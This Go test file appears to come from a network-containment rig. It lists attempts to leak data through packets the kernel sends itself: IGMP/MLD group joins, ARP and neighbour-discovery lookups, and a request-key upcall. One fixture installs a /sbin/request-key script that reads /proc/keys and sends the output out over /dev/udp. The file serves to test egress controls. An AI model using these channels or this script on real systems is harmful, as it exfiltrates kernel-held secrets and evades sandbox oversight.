//go:build vmguest

package rig

import (
	"fmt"
	"os"
	"strings"
	"testing"
)

// kernelAttempts have a kernel, or a program that it starts outside, say something for whoever asks it to (B47). They choose an
// address, and the receiver sees that in what no socket has sent.
func kernelAttempts() []Attempt {
	join := func(name, words, to, text string) Attempt {
		return Attempt{ID: "B47", Name: name, Argv: egress(words + " -after 30s -dev {dev} -to " + to + ":9"), Prepare: saying(text), Started: untilArrived}
	}
	older := join("igmp-older", "join", "239.47.0.4", "igmp(239.47.0.4)")
	older.Argv, older.Opens, older.Started = append(older.Argv, "-wait", "socket", "-after", "3s"), true, nil
	i386 := join("igmp-i386", "join-group", "239.47.0.3", "igmp(239.47.0.3)")
	i386.Argv[0] += ".386"
	all := []Attempt{
		join("igmp", "join", "239.47.0.1", "igmp(239.47.0.1)"),
		join("igmp-group", "join-group", "239.47.0.2", "igmp(239.47.0.2)"),
		join("igmp-source", "join-source", "10.47.0.1", "igmp(10.47.0.1)"),
		join("igmp-group-source", "join-group-source", "10.47.0.2", "igmp(10.47.0.2)"),
		join("mld", "join", "[ff15::4700:1]", "mld(ff15::4700:1)"),
		join("mld-group", "join-group", "[ff15::4700:2]", "mld(ff15::4700:2)"),
		join("mld-group-source", "join-group-source", "[2001:db8::4700:1]", "mld(2001:db8::4700:1)"),
		i386, older,
	}
	// what a 32-bit call sets, no check sees once it is read
	left := LeftByClose()
	left.ID, left.Name, left.Clean, left.Prepare = "B120", "join-i386", true, saying("leave(239.47.0.7)")
	left.Argv = append(egress("leave-close -after 3s -dev {dev} -to 239.47.0.7:9"), strings.Fields("-wait open")...)
	left.Argv[0] += ".386"
	all = append(all, left)
	// an address of the link that nobody has is asked for before anything is sent to it
	for i, how := range []string{"udp-sendto", "tcp", "raw-icmp"} {
		all = append(all,
			Attempt{ID: "B47", Name: "arp-" + how, Argv: egress(fmt.Sprintf("%s -to 10.77.0.%d:{port}", how, 201+i)), Prepare: saying(fmt.Sprintf("arp(10.77.0.%d)", 201+i))},
			Attempt{ID: "B47", Name: "nd-" + how, Argv: egress(fmt.Sprintf("%s -to [fd77::4700:%d]:{port}", how, i)), Prepare: saying(fmt.Sprintf("nd(fd77::4700:%d)", i))},
		)
	}
	arp := late("B47", "arp-older", "udp-connect -to 10.77.0.204:{port}", "connect")
	arp.Prepare = saying("arp(10.77.0.204)")
	nd := late("B47", "nd-older", "udp-connect -to [fd77::4700:4]:{port}", "connect")
	nd.Prepare = saying("nd(fd77::4700:4)")
	upcall := Attempt{
		ID: "B47", Name: "request-key", Modules: []string{"dns_resolver"}, Indirect: true, Argv: egress("request-key"),
		// stands for key.dns_resolver: it sends what it is to look up
		Prepare: func(t testing.TB, e *Env) {
			script := fmt.Sprintf("#!/bin/bash\ngrep -i \"^$(printf %%08x $2)\" /proc/keys >/dev/udp/%s/%d\n", World4, e.Port)
			if err := os.WriteFile("/sbin/request-key", []byte(script), 0o755); err != nil {
				t.Fatal(err)
			}
		},
	}
	return append(all, arp, nd, upcall)
}

// saying replaces the text that an attempt sends with what the receiver tells of the kernel's packets.
func saying(text string) func(testing.TB, *Env) {
	return func(_ testing.TB, e *Env) { e.Text = text }
}

// LeftByClose leaves a group by closing a socket that was in it: the one way of these that stays open (docs/limits.md).
func LeftByClose() Attempt {
	const group = "239.47.0.6"
	return Attempt{
		ID: "B47", Name: "leave-close", Opens: true, Prepare: saying("leave(" + group + ")"),
		Argv: append(egress("leave-close -after 3s -dev {dev} -to "+group+":9"), strings.Fields("-wait open")...),
	}
}
